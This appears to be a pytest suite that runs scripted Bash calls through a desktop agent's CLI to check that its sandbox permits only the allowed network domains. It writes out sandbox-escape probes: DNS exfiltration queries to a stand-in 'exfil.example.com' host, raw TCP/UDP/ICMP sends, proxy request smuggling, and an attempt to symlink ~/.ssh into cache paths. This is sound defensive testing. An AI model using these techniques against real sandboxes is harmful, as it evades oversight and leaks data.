"""Issue 27: the network the settings name, and nothing else — the leak suite, through the real CLI, sandbox on.

Every target is on this machine (``egress_servers``): an HTTP server, a TLS one (self-signed; ``curl -k``), an
IPv6 one on ``::1``, raw TCP and UDP listeners on every address, an abstract Unix socket and a real ``dbus-daemon``
on an abstract address, each logging what reached it. Test names are mapped to ``127.0.0.1`` in the proxy's
resolver through ``DESKTOP_AGENT_UNSAFE_EGRESS_HOSTS`` (set in the CLI's own environment, which the model never
controls; see ``permissions.egress``). Settings (``--settings`` JSON, and once as a file): ``allowedDomains``
``allowed.test``, ``*.pkgs.test``, ``git.test``, ``localhost:<http port>``; ``deniedDomains`` ``blocked.pkgs.test``.

Each case is one scripted Bash call; it holds when its output says what it must (a success's marker, a refusal's
code), its tag reached no server it must not reach, it got exactly one tool_result and the CLI exited 0. The
allowed ones — curl over HTTP, HTTPS CONNECT and SOCKS5, Python's urllib, ``git clone`` from ``git http-backend``,
``pip install`` from a simple index into a project venv, ``npm install`` of a tarball — need no configuration
of their own, and the session's egress log shows each request. With no list, a deny-only list or a list of
refused entries, there is no network at all (no proxy, no variables).
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import uuid
from pathlib import Path
from typing import Any, Callable

import pytest

from tests.security import harness, suite
from tests.security.egress_servers import GIT_MARK, NPM_MARK, WHEEL_MARK, Servers

pytestmark = pytest.mark.needs_sandbox

_ID = uuid.uuid4().hex[:8]
HOSTS = {name: "127.0.0.1" for name in ("allowed.test", "denied.test", "git.test", "pypi.pkgs.test", "npm.pkgs.test",
                                         "blocked.pkgs.test")}

Check = Callable[[str, Servers, str], list[str]]


def _has(*needles: str) -> Check:
    def check(out: str, s: Servers, tag: str) -> list[str]:
        return [f"{n!r} not in the output" for n in needles if n.replace("{TAG}", tag) not in out]
    return check


def _matches(pattern: str) -> Check:
    def check(out: str, s: Servers, tag: str) -> list[str]:
        return [] if re.search(pattern.replace("{TAG}", tag), out) else [f"/{pattern}/ not in the output"]
    return check


def _unreached(out: str, s: Servers, tag: str) -> list[str]:
    return [f"a server logged this case's tag: {[ln for ln in s.log.lines if tag in ln][:3]}"] if tag in s.log.text() \
        else []


def _reached(out: str, s: Servers, tag: str) -> list[str]:
    return [] if tag in s.log.text() else ["no server logged this case's request"]


PY_TCP = ("python3 -c \"import socket, sys\nfor a in sys.argv[1:]:\n    h, p = a.rsplit(':', 1)\n    try:\n"
          "        c = socket.create_connection((h.strip('[]'), int(p)), timeout=3); c.sendall(b'{TAG}'); "
          "print('CONNECTED', a)\n    except OSError as e:\n        print('refused', a, e.__class__.__name__)\"")
PY_UDP = ("python3 -c \"import socket, sys\nfor a in sys.argv[1:]:\n    h, p = a.rsplit(':', 1)\n"
          "    f = socket.AF_INET6 if ':' in h else socket.AF_INET\n    s = socket.socket(f, socket.SOCK_DGRAM)\n"
          "    try:\n        s.sendto(b'{TAG}', (h.strip('[]'), int(p))); print('sent', a)\n"
          "    except OSError as e:\n        print('unsent', a, e.__class__.__name__)\"")
DNS_QUERY = ("python3 -c \"import socket, struct, sys\nq = struct.pack('>HHHHHH', 7, 256, 1, 0, 0, 0) + b''.join("
             "bytes([len(x)]) + x.encode() for x in '{TAG}.exfil.example.com'.split('.')) + b'\\0' + "
             "struct.pack('>HH', 1, 1)\nfor a in sys.argv[1:]:\n    h, p = a.rsplit(':', 1)\n"
             "    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)\n    try:\n"
             "        s.sendto(q, (h, int(p))); s.recv(512); print('ANSWERED', a)\n"
             "    except OSError as e:\n        print('no-dns', a, e.__class__.__name__)\"")
RAW_PROXY = ("python3 -c \"import socket, sys\nc = socket.create_connection(('127.0.0.1', 3128), timeout=5)\n"
             "c.sendall(sys.argv[1].encode().decode('unicode_escape').encode())\nout = b''\nwhile True:\n    try:\n"
             "        d = c.recv(65536)\n    except OSError:\n        break\n    if not d:\n        break\n    out += d\n"
             "print(out.decode('latin-1'))\"")


def _cmd_cases(s: Servers) -> list[tuple[str, str, list[Check]]]:
    hp, tp, h6, rp, up = s.http, s.https, s.http6, s.tcp, s.udp
    hip = s.host_ip or "192.0.2.1"
    code = "-w ' code=%{http_code}'"
    return [
        # ---- allowed, no configuration of their own
        ("http-allowed", f"curl -s -m 10 http://allowed.test:{hp}/hit/{{TAG}}", [_has("ok /hit/{TAG} via http"),
                                                                               _reached]),
        ("https-connect-allowed", f"curl -sk -m 10 https://allowed.test:{tp}/hit/{{TAG}}",
         [_has("ok /hit/{TAG} via https"), _reached]),
        ("socks5-allowed", f"curl -s -m 10 --proxy socks5h://127.0.0.1:3128 http://allowed.test:{hp}/hit/{{TAG}}",
         [_has("ok /hit/{TAG} via http"), _reached]),
        ("python-urllib-allowed", "python3 -c \"import urllib.request; print(urllib.request.urlopen("
         f"'http://allowed.test:{hp}/hit/{{TAG}}', timeout=10).read().decode())\"", [_has("ok /hit/{TAG}"), _reached]),
        ("localhost-port-allowed", f"curl -s -m 10 http://localhost:{hp}/hit/{{TAG}}", [_has("ok /hit/{TAG}"),
                                                                                      _reached]),
        ("git-clone", f"git clone -q http://git.test:{hp}/git/repo.git clone-{{TAG}} && "
         f"git -C clone-{{TAG}} log --format=%s -1", [_has(GIT_MARK)]),
        # the interpreter itself, not a pyenv shim (its pip wrapper "rehashes" into a read-only ~/.pyenv)
        ("pip-install", "PY=$(python3 -c 'import sys; print(sys.executable)') && "
         f"$PY -m venv --without-pip venv-{{TAG}} && $PY -m pip --python venv-{{TAG}}/bin/python "
         f"install -q --disable-pip-version-check --trusted-host pypi.pkgs.test --index-url http://pypi.pkgs.test:{hp}/simple/ demo-pkg && "
         f"venv-{{TAG}}/bin/python -c 'import demo_pkg; print(demo_pkg.MARK)'", [_has(WHEEL_MARK)]),
        ("npm-install", f"npm --prefix npm-{{TAG}} install --no-audit --no-fund --no-update-notifier "
         f"http://npm.pkgs.test:{hp}/demo-npm-1.0.0.tgz >/dev/null 2>npm-err.txt; "
         f"node -e \"console.log(require('./npm-{{TAG}}/node_modules/demo-npm').mark)\" || cat npm-err.txt",
         [_has(NPM_MARK)]),
        ("proxy-variables", "env | grep -E '^(HTTPS?|ALL|NO)_PROXY=' | sort; echo \"java=$JAVA_TOOL_OPTIONS\"; "
         "echo \"git=$(git config --get http.proxy)\"; echo \"npm=$npm_config_https_proxy\"; echo {TAG}",
         [_has("HTTP_PROXY=http://127.0.0.1:3128", "HTTPS_PROXY=http://127.0.0.1:3128", "ALL_PROXY=http://127.0.0.1",
               "-Dhttps.proxyHost=127.0.0.1", "-DsocksProxyHost=127.0.0.1", "git=http://127.0.0.1:3128",
               "npm=http://127.0.0.1:3128"), _matches(r"(?m)^NO_PROXY=$")]),
        ("caches-writable", "for v in XDG_CACHE_HOME PIP_CACHE_DIR npm_config_cache YARN_CACHE_FOLDER GOCACHE "
         "GOMODCACHE CARGO_HOME; do eval \"d=\\$$v\"; mkdir -p \"$d/registry\" && touch \"$d/registry/{TAG}\" "
         "&& echo \"$v writable\"; done",
         [_has(*(f"{v} writable" for v in ("XDG_CACHE_HOME", "PIP_CACHE_DIR", "npm_config_cache", "YARN_CACHE_FOLDER",
                                           "GOCACHE", "GOMODCACHE", "CARGO_HOME")))]),
        ("cargo-build", "command -v cargo >/dev/null || { echo no-cargo; exit 0; }; cargo new -q --vcs none "
         "crate_{TAG} && cargo build -q --offline --manifest-path crate_{TAG}/Cargo.toml && "
         "./crate_{TAG}/target/debug/crate_{TAG}", [_has("Hello, world!")]),
        ("go-build", "command -v go >/dev/null || { echo no-go; exit 0; }; mkdir -p gomod_{TAG} && printf "
         "'module example.com/m\\n\\ngo 1.19\\n' > gomod_{TAG}/go.mod && printf 'package main\\nimport \"fmt\"\\n"
         "func main() { fmt.Println(\"go-built-ok\") }\\n' > gomod_{TAG}/main.go && env -C gomod_{TAG} go build -o m . "
         "&& ./gomod_{TAG}/m", [_has("go-built-ok")]),
        ("cache-layout-read-only", "for p in \"$CARGO_HOME/config.toml\" \"$CARGO_HOME/planted\" "
         "\"$XDG_CACHE_HOME/../planted-{TAG}\"; do ln -sfn \"$HOME/.ssh\" \"$p\" 2>/dev/null && echo \"PLANTED $p\" "
         "|| echo refused; done", [_matches(r"^(?![\s\S]*PLANTED)"), _has("refused")]),
        ("home-read-only", "touch \"$HOME/written-{TAG}\" 2>/dev/null; echo home=$?; echo cache=$XDG_CACHE_HOME",
         [_matches(r"home=[1-9]"), _has("sandbox-cache")]),
        # ---- refused
        ("denied-name-http", f"curl -s -m 10 {code} http://denied.test:{hp}/hit/{{TAG}}",
         [_has("code=403", "sandbox.network.allowedDomains"), _unreached]),
        ("denied-wins-over-allowed", f"curl -s -m 10 {code} http://blocked.pkgs.test:{hp}/hit/{{TAG}}",
         [_has("code=403", "deniedDomains: blocked.pkgs.test"), _unreached]),
        ("denied-name-https", f"curl -sk -m 10 https://denied.test:{tp}/hit/{{TAG}}; echo rc=$?",
         [_matches(r"rc=(?!0\b)\d+"), _unreached]),
        ("denied-name-socks5", f"curl -s -m 10 --proxy socks5h://127.0.0.1:3128 http://denied.test:{hp}/hit/{{TAG}}; "
         "echo rc=$?", [_matches(r"rc=(?!0\b)\d+"), _unreached]),
        ("ip-literal-via-proxy", f"curl -s -m 10 {code} http://{hip}:{rp}/{{TAG}}; curl -s -m 10 {code} "
         f"http://127.0.0.1:{rp}/{{TAG}}", [_has("code=403"), _unreached]),
        ("raw-tcp-to-an-ip", PY_TCP + f" {hip}:{rp} 127.0.0.1:{rp} 127.0.0.1:{hp} [::1]:{rp}",
         [_has("refused"), _matches(r"^(?![\s\S]*CONNECTED)"), _unreached]),
        ("udp-out", PY_UDP + f" {hip}:{up} 127.0.0.1:{up} [::1]:{up} 8.8.8.8:53", [_unreached]),
        ("dns-exfiltration", "grep -c nameserver /etc/resolv.conf; getent hosts {TAG}.exfil.example.com; "
         "echo getent=$?; python3 -c \"import socket\ntry:\n    socket.getaddrinfo('{TAG}.exfil.example.com', 80); "
         "print('RESOLVED')\nexcept OSError as e:\n    print('unresolved', e.__class__.__name__)\"; " + DNS_QUERY +
         f" {hip}:{up} 127.0.0.1:{up} 10.255.255.53:53 8.8.8.8:53",
         [_matches(r"(?m)^0$"), _matches(r"getent=[1-9]"), _has("unresolved"),
          _matches(r"^(?![\s\S]*(RESOLVED|ANSWERED))"), _unreached]),
        ("icmp-ping", f"ping -c1 -W1 {hip} >/dev/null 2>&1; echo ping=$?; ping -c1 -W1 127.0.0.1 >/dev/null 2>&1; "
         "python3 -c \"import socket\ntry:\n    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, "
         f"socket.IPPROTO_ICMP); s.sendto(b'\\x08\\0\\0\\0\\0\\0\\0\\0{{TAG}}', ('{hip}', 0)); print('ICMP-SENT')\n"
         "except OSError as e:\n    print('no-icmp', e.__class__.__name__)\"", [_matches(r"ping=[1-9]"),
                                                                               _has("no-icmp")]),
        ("ipv6-literal", f"curl -s -m 10 -g {code} 'http://[::1]:{h6}/hit/{{TAG}}'; " + PY_TCP + f" [::1]:{h6}",
         [_has("code=403", "refused"), _unreached]),
        ("host-abstract-socket", "python3 -c \"import socket\ns = socket.socket(socket.AF_UNIX)\ntry:\n"
         f"    s.connect('\\0{s.abstract}'); s.sendall(b'{{TAG}}'); print('CONNECTED')\nexcept OSError as e:\n"
         "    print('refused', e.__class__.__name__)\"", [_has("refused"), _unreached]),
        ("dbus-session-bus", "dbus-send --session --print-reply --dest=org.freedesktop.DBus / "
         "org.freedesktop.DBus.ListNames >/dev/null 2>&1; echo dbus=$? {TAG}", [_matches(r"dbus=[1-9]")]),
        ("connect-denied-with-allowed-host-header", RAW_PROXY + f" 'CONNECT denied.test:{hp} HTTP/1.1\\r\\n"
         f"Host: allowed.test:{hp}\\r\\n\\r\\nGET /hit/{{TAG}} HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n'",
         [_has("403 Forbidden"), _unreached]),
        ("pipelined-denied-after-allowed", RAW_PROXY + f" 'GET http://allowed.test:{hp}/hit/first-{{TAG}}-ok "
         f"HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\nGET http://denied.test:{hp}/hit/{{TAG}} HTTP/1.1\\r\\n"
         "Host: denied.test\\r\\n\\r\\n'", [_has("ok /hit/first-{TAG}-ok"), _unreached_second]),
        ("localhost-other-port", f"curl -s -m 10 {code} http://localhost:{rp}/{{TAG}}", [_has("code=403"),
                                                                                       _unreached]),
    ]


def _unreached_second(out: str, s: Servers, tag: str) -> list[str]:
    hits = [ln for ln in s.log.lines if f"/hit/{tag} " in ln]
    return [f"the pipelined request to the denied host was forwarded: {hits}"] if hits else []


NO_NET = ("echo proxy=${{HTTP_PROXY:-none}}; curl -s -m 5 http://allowed.test:{hp}/hit/{{TAG}}; echo rc=$?; "
          "python3 -c \"import socket; s = socket.socket(); s.settimeout(2); print('relay', s.connect_ex(("
          "'127.0.0.1', 3128)))\"")
NO_NET_CHECKS: list[Check] = [_has("proxy=none"), _matches(r"rc=(?!0\b)\d+"), _matches(r"relay (?!0\b)\d+"),
                              _unreached]


def _network(allowed: list[str] | None, denied: list[str] | None = None) -> dict[str, Any]:
    net: dict[str, Any] = {}
    if allowed is not None:
        net["allowedDomains"] = allowed
    if denied is not None:
        net["deniedDomains"] = denied
    return {"sandbox": {"network": net}}


MAIN_IDS = ["http-allowed", "https-connect-allowed", "socks5-allowed", "python-urllib-allowed",
            "localhost-port-allowed", "git-clone", "pip-install", "npm-install", "proxy-variables", "caches-writable",
            "cargo-build", "go-build", "cache-layout-read-only", "home-read-only",
            "denied-name-http", "denied-wins-over-allowed", "denied-name-https", "denied-name-socks5",
            "ip-literal-via-proxy", "raw-tcp-to-an-ip", "udp-out", "dns-exfiltration", "icmp-ping", "ipv6-literal",
            "host-abstract-socket", "dbus-session-bus", "connect-denied-with-allowed-host-header",
            "pipelined-denied-after-allowed", "localhost-other-port"]
NO_NET_IDS = ["no-list", "deny-only-list", "refused-entries-only"]
FILE_IDS = ["settings-file-allowed", "settings-file-denied"]
REQUIRES = {"git-clone": ["git"], "npm-install": ["npm", "node"], "dbus-session-bus": ["dbus-send"],
            "control-dbus": ["dbus-send"], "icmp-ping": ["ping"]}
CONTROL_IDS = ["control-raw-tcp", "control-udp", "control-dns-query", "control-abstract", "control-dbus"]


@pytest.fixture(scope="module")
def egress_runs(tmp_path_factory):
    root = tmp_path_factory.mktemp("egress-servers")
    s = Servers(root, _ID)
    try:
        hp = s.http
        settings = _network(["allowed.test", "*.pkgs.test", "git.test", f"localhost:{hp}"], ["blocked.pkgs.test"])
        env = {"DESKTOP_AGENT_SANDBOX": "on", "DESKTOP_AGENT_UNSAFE_EGRESS_HOSTS": json.dumps(HOSTS)}
        for var, default in (("RUSTUP_HOME", "~/.rustup"), ("CARGO_HOME", "~/.cargo")):  # HOME moves per run
            real = os.environ.get(var) or os.path.expanduser(default)
            if os.path.isdir(real):
                env[var] = real
        if s.dbus_address:
            env["DBUS_SESSION_BUS_ADDRESS"] = s.dbus_address
        cases: list[dict[str, Any]] = []
        checks: dict[str, list[Check]] = {}
        tags: dict[str, str] = {}
        for n, (cid, command, cs) in enumerate(_cmd_cases(s)):
            tag = f"EGT{n:02d}{_ID}"
            tags[cid], checks[cid] = tag, cs
            cases.append(suite.case("egress", cid, command.replace("{TAG}", tag), [], settings=settings, env=env,
                                    timeout=180))
        no_net_settings = {"no-list": None, "deny-only-list": _network(None, ["denied.test"]),
                           "refused-entries-only": _network(["*", "*.test", "http://allowed.test/"])}
        for n, cid in enumerate(NO_NET_IDS):
            tag = f"EGN{n:02d}{_ID}"
            tags[cid], checks[cid] = tag, NO_NET_CHECKS
            cases.append(suite.case("egress", cid, NO_NET.format(hp=hp).replace("{TAG}", tag), [],
                                    settings=no_net_settings[cid], env=env))
        settings_file = root / "egress-settings.json"
        settings_file.write_text(json.dumps(settings))
        for n, (cid, host, want) in enumerate((("settings-file-allowed", "allowed.test", [_has("ok /hit/"), _reached]),
                                               ("settings-file-denied", "denied.test", [_has("code=403"), _unreached]))):
            tag = f"EGF{n:02d}{_ID}"
            tags[cid], checks[cid] = tag, want
            cases.append(suite.case("egress", cid, f"curl -s -m 10 -w ' code=%{{http_code}}' "
                                    f"http://{host}:{hp}/hit/{tag}", [], env=env,
                                    args=["--settings", str(settings_file)]))
        # controls: the same attacks with the sandbox switched off reach their listeners (the listeners work)
        ctl_env = {**env, "DESKTOP_AGENT_SANDBOX": "off"}
        hip = s.host_ip or "127.0.0.1"
        for n, (cid, command, want) in enumerate((
                ("control-raw-tcp", PY_TCP + f" {hip}:{s.tcp}", [_has("CONNECTED"), _reached]),
                ("control-udp", PY_UDP + f" 127.0.0.1:{s.udp}", [_reached]),
                ("control-dns-query", DNS_QUERY + f" 127.0.0.1:{s.udp}", [_reached]),
                ("control-abstract", "python3 -c \"import socket\ns = socket.socket(socket.AF_UNIX)\n"
                 f"s.connect('\\0{s.abstract}'); s.sendall(b'{{TAG}}'); print('CONNECTED')\"", [_reached]),
                ("control-dbus", "dbus-send --session --print-reply --dest=org.freedesktop.DBus / "
                 "org.freedesktop.DBus.ListNames >/dev/null 2>&1; echo dbus=$? {TAG}", [_has("dbus=0")]))):
            tag = f"EGC{n:02d}{_ID}"
            tags[cid], checks[cid] = tag, want
            cases.append(suite.case("egress", cid, command.replace("{TAG}", tag), [], env=ctl_env))
        for c in cases:
            c["mode"] = "bypassPermissions"
        runs = suite.run_module_cases(cases, tmp_path_factory.mktemp("egress"))
        yield runs, s, checks, tags
    finally:
        s.close()


def _problems(egress_runs, cid: str) -> tuple[list[str], str]:
    runs, s, checks, tags = egress_runs
    run, case = runs[cid]
    out = "\n".join(harness.tool_results(run).get(case["_tool_use_id"], []))
    problems = harness.breaches(run, case)
    for check in checks[cid]:
        problems += check(out, s, tags[cid])
    return problems, out


@pytest.mark.timeout(900)
@pytest.mark.parametrize("cid", MAIN_IDS + NO_NET_IDS + FILE_IDS + CONTROL_IDS)
def test_egress_case(cid, egress_runs):
    if cid in ("dbus-session-bus", "control-dbus") and egress_runs[1].dbus_address is None:
        pytest.skip("dbus-daemon is not installed")
    for tool in ("cargo", "go"):
        if cid == f"{tool}-build" and shutil.which(tool) is None:
            pytest.skip(f"{tool} is not installed here: the cache variables it needs are checked by caches-writable")
    command = egress_runs[0][cid][1]["input"]["command"]
    needed = REQUIRES.get(cid, []) + (["curl"] if "curl " in command else [])
    missing = [t for t in needed if shutil.which(t) is None]
    if missing:
        pytest.skip(f"{', '.join(missing)} not installed here")
    problems, out = _problems(egress_runs, cid)
    assert not problems, f"{cid}: {problems}; tool_result: {out[:700]!r}"


def test_dbus_control_outside_the_sandbox(egress_runs):
    """The bus the sandboxed case could not reach answers a plain client: the refusal is the sandbox's."""
    s = egress_runs[1]
    if s.dbus_address is None or shutil.which("dbus-send") is None:
        pytest.skip("dbus-daemon / dbus-send is not installed")
    proc = subprocess.run(["dbus-send", "--session", "--print-reply", "--dest=org.freedesktop.DBus", "/",
                           "org.freedesktop.DBus.ListNames"], env={"DBUS_SESSION_BUS_ADDRESS": s.dbus_address,
                                                                    "PATH": "/usr/bin:/bin"},
                          capture_output=True, timeout=10)
    assert proc.returncode == 0, proc.stderr


def _egress_log(run: harness.Run) -> list[dict[str, Any]]:
    assert run.base is not None
    files = list((run.base / "home" / "data" / "desktop-agent" / "egress").glob("*.jsonl"))
    out: list[dict[str, Any]] = []
    for f in files:
        out += [json.loads(line) for line in f.read_text().splitlines() if line.strip()]
    return out


def test_the_log_shows_each_request(egress_runs):
    runs, s, _, _ = egress_runs
    run, _ = runs["http-allowed"]
    log = _egress_log(run)
    assert log, "no egress log was written"

    def has(host: str, decision: str, proto: str | None = None, rule: str | None = None) -> bool:
        return any(r["host"] == host and r["decision"] == decision and (proto is None or r["proto"] == proto)
                   and (rule is None or rule in r["rule"]) for r in log)

    wanted = [("allowed.test", "allow", "http", None), ("allowed.test", "allow", "connect", None),
              ("allowed.test", "allow", "socks5", None), ("git.test", "allow", "http", None),
              ("pypi.pkgs.test", "allow", "http", None), ("npm.pkgs.test", "allow", "http", None),
              ("localhost", "allow", "http", f"localhost:{s.http}"), ("denied.test", "deny", "http", None),
              ("denied.test", "deny", "connect", None), ("denied.test", "deny", "socks5", None),
              ("blocked.pkgs.test", "deny", "http", "deniedDomains: blocked.pkgs.test"), ("::1", "deny", "http", None),
              ("127.0.0.1", "deny", "http", None)]
    missing = [w for w in wanted if not has(*w)]
    assert not missing, f"not in the log: {missing}; log: {log[:40]}"
    allowed = [r for r in log if r["decision"] == "allow" and r["host"] == "allowed.test" and r["proto"] == "connect"]
    assert all(r["up"] > 0 and r["down"] > 0 for r in allowed), allowed
    for r in log:
        assert set(r) >= {"host", "port", "up", "down", "decision", "rule", "proto"}


def test_caches_were_written_inside_the_sandbox(egress_runs):
    runs, _, _, _ = egress_runs
    run, _ = runs["npm-install"]
    assert run.base is not None
    caches = list((run.base / "home" / "data" / "desktop-agent" / "sandbox-cache").glob("*"))
    assert len(caches) == 1, caches
    npm = caches[0] / "npm"
    assert any(npm.rglob("*")), "npm wrote nothing to its cache"
    home = run.base / "home"
    assert not (home / ".npm").exists() and not (home / ".cache" / "pip").exists()


def test_no_list_means_no_proxy_and_no_log(egress_runs):
    runs, _, _, _ = egress_runs
    for cid in NO_NET_IDS:
        run, _ = runs[cid]
        assert not _egress_log(run), f"{cid}: a proxy ran"
